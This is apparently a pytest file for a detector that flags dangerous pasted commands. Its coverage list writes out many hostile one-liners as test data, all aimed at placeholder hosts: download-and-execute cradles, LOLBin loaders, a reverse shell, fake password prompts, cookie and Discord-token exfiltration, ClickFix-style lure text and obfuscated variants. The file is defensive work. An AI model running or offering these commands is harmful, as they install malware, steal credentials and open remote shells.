"""The engine end to end: every technique the issue lists, the context, and the verdict."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from app.detection import Context, Engine, Level, PasteTarget


def enc(ps: str) -> str:
    return base64.b64encode(ps.encode("utf-16-le")).decode()


PAD = " " * 60

# (command, rule that must explain it, lowest acceptable level)
COVERAGE = [
    # Windows
    (
        "powershell -w hidden -c iwr https://evil.test/a.ps1 | iex",
        "PG-WIN-PS-DOWNLOAD-EXECUTE",
        Level.MALICIOUS,
    ),
    ("mshta https://evil.test/fix-error", "PG-WIN-MSHTA-REMOTE", Level.MALICIOUS),
    (
        'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc""")',
        "PG-WIN-MSHTA-INLINE-SCRIPT",
        Level.MALICIOUS,
    ),
    ("msiexec /i https://evil.test/verify/captcha /qn", "PG-WIN-MSIEXEC-REMOTE", Level.MALICIOUS),
    (r"rundll32.exe \\evil.test\share\x.dll,Start", "PG-WIN-RUNDLL32-REMOTE", Level.MALICIOUS),
    (
        "regsvr32 /s /n /u /i:https://evil.test/x.sct scrobj.dll",
        "PG-WIN-REGSVR32-REMOTE",
        Level.MALICIOUS,
    ),
    (
        "certutil -urlcache -split -f https://evil.test/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe",
        "PG-WIN-CERTUTIL-DOWNLOAD",
        Level.MALICIOUS,
    ),
    (
        "bitsadmin /transfer job /download /priority high https://evil.test/a.exe C:\\Users\\Public\\a.exe & start C:\\Users\\Public\\a.exe",
        "PG-WIN-BITSADMIN-TRANSFER",
        Level.MALICIOUS,
    ),
    ("cmd /c finger.exe gate@evil.test | cmd", "PG-WIN-FINGER-C2", Level.MALICIOUS),
    (
        'cmd /c "for /f "tokens=*" %i in (\'nslookup -q=txt s.evil.test 203.0.113.5\') do %i"',
        "PG-WIN-NSLOOKUP-STAGING",
        Level.MALICIOUS,
    ),
    (
        'conhost.exe --headless powershell -c "iwr https://evil.test/a | iex"',
        "PG-WIN-CONHOST-HEADLESS",
        Level.MALICIOUS,
    ),
    (
        "pcalua.exe -a \"powershell\" -c \"([wmiclass]'Win32_Process').Create('cmd /c pushd \\\\evil.test@SSL\\d & rundll32 x.dll,#1')\"",
        "PG-WIN-PCALUA-PROXY",
        Level.MALICIOUS,
    ),
    (
        'cmd /c "curl -s http://evil.test/a.vbs -o %temp%\\a.vbs && wscript //B //E:VBScript %temp%\\a.vbs"',
        "PG-WIN-SCRIPT-HOST-DOWNLOADED",
        Level.MALICIOUS,
    ),
    (
        "curl.exe -o %TEMP%\\u.exe https://evil.test/u.exe && start %TEMP%\\u.exe",
        "PG-WIN-PS-DOWNLOAD-THEN-RUN",
        Level.SUSPICIOUS,
    ),
    (
        'cmd /c net use Q: https://evil.test/dav /persistent:no && "Q:\\run.cmd"',
        "PG-WIN-RUN-FROM-MAPPED-WEBDAV",
        Level.MALICIOUS,
    ),
    (
        "Powershell.exe -c ping example.com" + PAD + r"# C:\company\internal\HRPolicy.docx",
        "PG-FILEFIX-FAKE-PATH",
        Level.MALICIOUS,
    ),
    (
        f"powershell -e {enc('iex (iwr https://evil.test/a)')}",
        "PG-WIN-PS-ENCODED-COMMAND",
        Level.MALICIOUS,
    ),
    # Lure markers
    (
        'powershell -c "iwr https://evil.test/a | iex"'
        + PAD
        + "# I am not a robot - Verification ID: 4411",
        "PG-LURE-VERIFICATION-TAIL",
        Level.MALICIOUS,
    ),
    (
        "mshta https://evil.test/v.hta" + "\u2003" * 40 + "# ✅ hυmаn vаlіdаtiοn ID: 2291",
        "PG-LURE-UNICODE-SPACES",
        Level.MALICIOUS,
    ),
    (
        "cmd /c start /min mshta https://evil.test/x & REM Cloudflare Ray ID: 8f2a77",
        "PG-LURE-VERIFICATION-TAIL",
        Level.MALICIOUS,
    ),
    # macOS
    ("curl -fsSL https://evil.test/i.sh | zsh", "PG-NIX-PIPE-TO-SHELL", Level.SUSPICIOUS),
    (
        "curl -s https://evil.test/p.applescript | osascript",
        "PG-MAC-PIPE-TO-OSASCRIPT",
        Level.MALICIOUS,
    ),
    (
        'osascript -e \'display dialog "Enter your password" default answer "" with hidden answer\'',
        "PG-MAC-PASSWORD-DIALOG",
        Level.MALICIOUS,
    ),
    (
        "echo 'Y3VybCAtcyBodHRwczovL2V2aWwudGVzdC94IHwgc2g=' | base64 -D | zsh",
        "PG-NIX-DECODE-TO-SHELL",
        Level.MALICIOUS,
    ),
    (
        "curl -o ~/Library/u https://evil.test/u && xattr -c ~/Library/u && chmod +x ~/Library/u && ~/Library/u",
        "PG-MAC-QUARANTINE-REMOVAL",
        Level.MALICIOUS,
    ),
    # (from /tmp, ~/Downloads or a disk image the mark stripped and the program run at once is
    # the more exact finding of the same group)
    (
        "curl -o /tmp/u https://evil.test/u && xattr -c /tmp/u && chmod +x /tmp/u && /tmp/u",
        "PG-LOL-XATTR-QUARANTINE-OPEN",
        Level.MALICIOUS,
    ),
    (
        'dscl . -authonly "$USER" hunter2 && curl -s https://evil.test/p | sh',
        "PG-MAC-PASSWORD-CHECK",
        Level.MALICIOUS,
    ),
    # Linux
    ("wget -qO- http://203.0.113.9/x.sh | sudo bash", "PG-NIX-PIPE-TO-SHELL", Level.MALICIOUS),
    ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "PG-NIX-REVERSE-SHELL", Level.MALICIOUS),
    (
        "python3 -c \"import urllib.request as u;exec(u.urlopen('https://evil.test/x').read())\"",
        "PG-NIX-SCRIPT-REMOTE-EXEC",
        Level.MALICIOUS,
    ),
    # Browser console
    (
        "javascript:fetch('https://evil.test/c?'+document.cookie)",
        "PG-JS-SECRETS-EXFIL",
        Level.MALICIOUS,
    ),
    (
        "webpackChunkdiscord_app.push([[Symbol()],{},r=>{for(const m of Object.values(r.c))if(m.exports?.default?.getToken)fetch('https://evil.test/t',{method:'POST',body:m.exports.default.getToken()})}])",
        "PG-JS-TOKEN-GRAB",
        Level.MALICIOUS,
    ),
    (
        "var s=document.createElement('script');s.src='https://evil.test/p.js';document.body.appendChild(s)",
        "PG-JS-REMOTE-SCRIPT",
        Level.SUSPICIOUS,
    ),
    ("eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))", "PG-JS-EVAL-OBFUSCATED", Level.SUSPICIOUS),
    # ConsentFix, tech support, remote access
    (
        "http://localhost:8400/?code=0.AXoAb3xYzQ1234567890abcdef&state=xyz&session_state=abc",
        "PG-CONSENTFIX-OAUTH-CODE",
        Level.SUSPICIOUS,
    ),
    (
        "WARNING! Your Windows computer is infected with a virus and your data is blocked. Call Microsoft Support now at +1-888-555-0199",
        "PG-TECH-SUPPORT-SCAM",
        Level.SUSPICIOUS,
    ),
    (
        "msiexec /i https://support-desk.example/AnyDesk.msi /qn",
        "PG-RAT-SCRIPTED-INSTALL",
        Level.MALICIOUS,
    ),
    # Obfuscation
    (
        "c^m^d /c p^o^w^e^r^s^h^e^l^l -w h -c i^e^x(i^w^r https://evil.test/a)",
        "PG-WIN-HIDDEN-COMMAND-WORD",
        Level.MALICIOUS,
    ),
    (
        'cmd /v:on /c "set a=pow&&set b=ershell&&call !a!!b! -w h -c iwr https://evil.test/a|iex"',
        "PG-WIN-SPLIT-VARIABLES",
        Level.MALICIOUS,
    ),
    ("%COMSPEC:~-7,3% /c mshta https://evil.test/a", "PG-WIN-ENV-SUBSTRING", Level.MALICIOUS),
    ("сurl -fsSL https://evil.test/x.sh | sh", "PG-HOMOGLYPH-COMMAND", Level.MALICIOUS),
    (
        'pow\u200bershell -c "iwr https://evil.test/a | iex"',
        "PG-INVISIBLE-CHARACTERS",
        Level.MALICIOUS,
    ),
    ("mshta http://0xC0.0x00.0x02.0x01/ebc/rps.gz", "PG-OBFUSCATED-IP", Level.MALICIOUS),
]


@pytest.mark.parametrize(
    ("text", "rule", "least"), COVERAGE, ids=[c[1] + f"-{i}" for i, c in enumerate(COVERAGE)]
)
def test_technique_is_detected_and_explained(
    engine: Engine, text: str, rule: str, least: Level
) -> None:
    verdict = engine.analyze(text)
    assert verdict.level >= least, (verdict.level, verdict.rule_ids)
    assert rule in verdict.rule_ids, verdict.rule_ids
    finding = next(f for f in verdict.findings if f.rule_id == rule)
    assert finding.explanation and finding.technique.startswith("T1") and finding.evidence


@pytest.mark.parametrize(
    "text",
    [
        "git clone https://github.com/user/repo.git && cd repo",
        "Get-Process | Sort-Object CPU -Descending | Select-Object -First 10",
        "msiexec.exe /i C:\\Packages\\approved.msi /quiet",
        "rundll32.exe shell32.dll,Control_RunDLL",
        "certutil -hashfile setup.exe SHA256",
        "curl -s https://api.github.com/repos/user/repo | jq '.stargazers_count'",
        "To open PowerShell, press Win+X and choose Terminal, then type your command.",
        "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
        "Привет! Как дела? Встретимся завтра в 10:00.",
        "const token = localStorage.getItem('token'); fetch('/api/me', {headers: {Authorization: token}})",
        "xattr -d com.apple.quarantine /Applications/Firefox.app",
        "finger alice@plan.example.org",
        "echo 'eval \"$(starship init zsh)\"' >> ~/.zshrc",
    ],
)
def test_ordinary_work_is_not_flagged(engine: Engine, text: str) -> None:
    verdict = engine.analyze(text)
    assert verdict.level <= Level.INFO, (verdict.rule_ids, verdict.summary)


def test_web_page_command_into_run_dialog_is_never_merely_info(engine: Engine) -> None:
    installer = "irm https://get.scoop.sh | iex"
    assert engine.analyze(installer).level is Level.INFO
    verdict = engine.analyze(
        installer, Context(source="https://docs.example/setup", target=PasteTarget.RUN_DIALOG)
    )
    assert verdict.level >= Level.SUSPICIOUS


def test_web_source_raises_the_score(engine: Engine) -> None:
    text = "curl -fsSL https://unknown-vendor.example/install.sh | sh"
    plain = engine.analyze(text)
    web = engine.analyze(text, Context(source="https://some.site/page"))
    assert web.score > plain.score
    assert "web page" in web.summary and "some[.]site" in web.summary


def test_harmless_target_lowers_but_keeps_the_findings(engine: Engine) -> None:
    text = "curl -fsSL https://unknown-vendor.example/install.sh | sh"
    verdict = engine.analyze(text, Context(target=PasteTarget.OTHER))
    assert verdict.level is Level.INFO and verdict.findings


def test_console_target_raises_script_findings(engine: Engine) -> None:
    text = "var s=document.createElement('script');s.src='https://evil.test/p.js';document.body.appendChild(s)"
    plain = engine.analyze(text)
    console = engine.analyze(text, Context(target=PasteTarget.BROWSER_CONSOLE))
    assert console.score > plain.score and console.level is Level.MALICIOUS


def test_verdict_carries_layers_indicators_summary_and_time(engine: Engine) -> None:
    text = f"powershell -enc {enc('iex (iwr https://evil.test/a)')}"
    verdict = engine.analyze(text)
    names = [layer.name for layer in verdict.layers]
    assert names[0] == "raw" and "base64" in names
    decoded = next(x for x in verdict.layers if x.name == "base64")
    assert "iwr https://evil.test/a" in decoded.text and decoded.depth == 1
    urls = [i for i in verdict.indicators if i.kind == "url"]
    assert urls and urls[0].display.startswith("hxxps://evil[.]test")
    assert "evil[.]test" in verdict.summary
    assert "powershell" in verdict.shells
    assert verdict.elapsed_ms > 0 and verdict.complete


def test_findings_name_the_layer_that_showed_them(engine: Engine) -> None:
    verdict = engine.analyze(f"powershell -enc {enc('mshta https://evil.test/x')}")
    mshta = next(f for f in verdict.findings if f.rule_id == "PG-WIN-MSHTA-REMOTE")
    assert mshta.layer == "base64"


def test_evidence_is_defanged_and_shows_control_characters(engine: Engine) -> None:
    verdict = engine.analyze("mshta https://evil.test/x\x1b[2J")
    for finding in verdict.findings:
        assert "https://" not in finding.evidence and "\x1b" not in finding.evidence


def test_bytes_input_is_accepted(engine: Engine) -> None:
    verdict = engine.analyze(b"mshta https://evil.test/x \xff\xfe")
    assert verdict.level is Level.MALICIOUS


def test_empty_and_blank_text_is_clean(engine: Engine) -> None:
    for text in ("", "   \n\t"):
        assert engine.analyze(text).level is Level.CLEAN


def test_clean_summary_and_info_summary(engine: Engine) -> None:
    assert engine.analyze("hello world").summary == "Nothing risky found."
    info = engine.analyze("curl -fsSL https://bun.sh/install | bash")
    assert info.level is Level.INFO and "Bun" in info.summary


def test_every_shipped_rule_translation_names_real_rules_and_keeps_host(engine: Engine) -> None:
    from app.detection.rules import load_translations, translations_dir

    files = sorted(translations_dir().glob("*.yaml"))
    assert len(files) >= 10
    for path in files:
        texts, errors = load_translations(path, engine.rules.rules)
        assert errors == [] and len(texts) >= 30, (path.name, errors)


def test_a_broken_rule_translation_is_reported_with_file_and_line(
    engine: Engine, tmp_path: Path
) -> None:
    from app.detection.rules import load_translations

    path = tmp_path / "xx.yaml"
    path.write_text(
        "PG-NO-SUCH-RULE:\n  title: x\n"
        "PG-JS-TOKEN-GRAB:\n  action: ohne Platzhalter\n  colour: red\n",
        encoding="utf-8",
    )
    _, errors = load_translations(path, engine.rules.rules)
    said = [str(e) for e in errors]
    assert any("xx.yaml:2:" in s and "no such rule" in s for s in said)
    assert any("xx.yaml:4:" in s and "{host}" in s for s in said)  # where its texts start
    assert any("unknown field 'colour'" in s for s in said)


BROKEN_ADDRESSES = ["http://0[", "http://localhost[", "https://127.0.0.1[:8080/?code=x"]


@pytest.mark.parametrize("tail", BROKEN_ADDRESSES)
def test_a_broken_address_beside_a_cradle_does_not_lower_the_verdict(tail: str) -> None:
    """urllib refuses "http://0[": the ConsentFix check used to raise on it, which threw the
    whole reading away and left a blocked cradle merely suspicious."""
    cradle = 'powershell -w hidden -c "iwr http://evil.example/a.ps1 | iex"'
    strict = Engine(strict=True)
    assert strict.analyze(f"{cradle} {tail}").level == strict.analyze(cradle).level
    assert Engine().analyze(f"{cradle} {tail}").level is Level.MALICIOUS


def test_a_failing_check_keeps_the_other_findings_and_fails_closed(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from app.detection import signals

    def broken(_a: object) -> list[str]:
        raise RuntimeError("a programming error in one check")

    monkeypatch.setitem(signals.SIGNALS, "localhost-oauth-code", broken)
    cradle = 'powershell -w hidden -c "iwr http://evil.example/a.ps1 | iex"'
    verdict = Engine().analyze(cradle)
    assert verdict.level is Level.MALICIOUS  # what the other checks found is kept
    assert not verdict.complete
    assert Engine().analyze("http://localhost:8080/").level >= Level.SUSPICIOUS  # fail closed
    with pytest.raises(RuntimeError):
        Engine(strict=True).analyze(cradle)


_HIDDEN = "a=cu;b=rl; $a$b -s https://evil.test/i.sh | sh"
_FROM_A_PAGE = Context(source="https://news.example/article", target=PasteTarget.TERMINAL)


@pytest.mark.parametrize(
    "space",
    ["\u00a0", "\u3000", "\u2007", "\u202f", "\u200b", "\ufeff", " \u200b", " \u2060"],
    ids=["nbsp", "ideographic", "figure", "narrow-nbsp", "zwsp", "bom", "blank+zwsp", "blank+wj"],
)
def test_a_blank_the_shell_keeps_in_a_word_does_not_make_a_comment(space: str) -> None:
    """`hi<NBSP>#; …` is no comment to bash (it splits words on ASCII blanks only), though
    folding for the rules turns the NBSP into a blank: the command after it is still read."""
    plain = Engine().analyze(f"echo hi; {_HIDDEN}", _FROM_A_PAGE)
    hidden = Engine().analyze(f"echo hi{space}#; {_HIDDEN}", _FROM_A_PAGE)
    assert plain.level >= Level.SUSPICIOUS
    assert hidden.level >= plain.level
    assert set(plain.rule_ids) <= set(hidden.rule_ids)


def test_a_real_comment_after_a_no_break_space_stays_a_comment() -> None:
    # an ASCII blank before '#' makes it a comment, whatever other spaces the line has
    for text in ("echo hi\u00a0# just a note", f"echo \u00a0hi # {_HIDDEN}"):
        assert Engine().analyze(text, _FROM_A_PAGE).level is Level.CLEAN


def test_a_download_made_runnable_and_run_by_its_bare_name_is_download_and_run() -> None:
    """`curl -o ~/.local/bin/agent && chmod +x … && agent`: no ./ or /tmp/ for a pattern to
    see, but the shell reader follows the file from the download to the command."""
    text = (
        "curl -fsSL https://files.test/agent -o ~/.local/bin/agent && "
        "chmod +x ~/.local/bin/agent && agent"
    )
    verdict = Engine().analyze(text, _FROM_A_PAGE)
    assert verdict.level >= Level.SUSPICIOUS and "PG-DO-RUNS-DOWNLOADED" in verdict.rule_ids
    # the same shape from the tool's own page is its installer
    own = Engine().analyze(
        text.replace("files.test/agent", "get.agent.example/agent"),
        Context(source="https://agent.example/docs/install", target=PasteTarget.TERMINAL),
    )
    assert own.level <= Level.INFO
    assert Engine().analyze("chmod +x build.sh && make all").level is Level.CLEAN


@pytest.mark.parametrize(
    "text",
    [
        "wget -qO /usr/local/bin/helper https://files.test/h; chmod 755 /usr/local/bin/helper; helper &",
        "curl -sLo ~/bin/helper https://files.test/h && chmod u+x ~/bin/helper && helper",
        "curl --output=$HOME/bin/helper https://files.test/h && chmod +x $HOME/bin/helper && helper",
        "wget --output-document ~/bin/helper https://files.test/h; chmod a+x ~/bin/helper; helper",
    ],
    ids=["wget-qO", "curl-sLo", "curl-output=", "wget-output-document"],
)
def test_every_spelling_of_the_output_file_is_followed_to_the_command(text: str) -> None:
    verdict = Engine().analyze(text, _FROM_A_PAGE)
    assert verdict.level >= Level.SUSPICIOUS and "PG-DO-RUNS-DOWNLOADED" in verdict.rule_ids
